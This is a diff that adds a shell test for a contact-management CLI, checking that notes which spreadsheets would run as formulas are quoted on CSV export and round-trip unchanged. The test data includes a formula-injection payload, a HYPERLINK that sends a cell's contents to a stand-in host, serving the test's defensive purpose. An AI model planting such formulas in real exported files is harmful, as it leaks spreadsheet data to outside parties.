@@ -58,6 +58,31 @@ round_trip() {
 	done
 }
 
+@test "a value a spreadsheet would run as a formula is exported as text and imports back unchanged" {
+	init_db
+	# a note the factory typed: =HYPERLINK(...) would run in the buyer's spreadsheet
+	rapport contact --partner 1 --by partner --kind email --at 2026-11-20T09:00Z \
+		--note '=HYPERLINK("http://x.example/?"&A1,"Click")' >/dev/null
+	rapport contact --partner 1 --by partner --kind call --at 2026-11-21T09:00Z --note '+86 20 8888 0000' >/dev/null
+	rapport contact --partner 1 --by partner --kind call --at 2026-11-22T09:00Z --note "'=already quoted" >/dev/null
+	rapport contact --partner 1 --by partner --kind call --at 2026-11-23T09:00Z --note "it's fine" >/dev/null
+	rapport export --partner 1 --kind contacts --out c.csv
+	[ "$(sed -n 2p c.csv)" = "$(printf '1,partner,email,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",2026-11-20T09:00:00Z\r')" ]
+	[ "$(sed -n 3p c.csv)" = "$(printf "1,partner,call,'+86 20 8888 0000,2026-11-21T09:00:00Z\r")" ]
+	[ "$(sed -n 4p c.csv)" = "$(printf "1,partner,call,''=already quoted,2026-11-22T09:00:00Z\r")" ]
+	[ "$(sed -n 5p c.csv)" = "$(printf "1,partner,call,it's fine,2026-11-23T09:00:00Z\r")" ]
+	# Python's csv module, as a spreadsheet reads cells: none starts with =, +, -, @
+	python3 -c '
+import csv
+for row in csv.reader(open("c.csv", newline="")):
+    for cell in row:
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell'
+	fresh_db copy
+	RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport import --kind contacts c.csv >/dev/null
+	[ "$(RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport contacts --json | json_get '[0]["note"]')" = '=HYPERLINK("http://x.example/?"&A1,"Click")' ]
+	[ "$(rapport contacts --json)" = "$(RAPPORT_DB="$BATS_TEST_TMPDIR/copy.db" rapport contacts --json)" ]
+}
+
 @test "every kind round-trips through export into a fresh database" {
 	init_db
 	printf 'partner,po,style,qty,price,currency,ex_factory\n1,P-1,Rib,100,2.5,EUR,2027-05-10\n1,P-2,"Crew ""Lux""",3,0.3333,USD,2027-06-01\n' >orders.csv
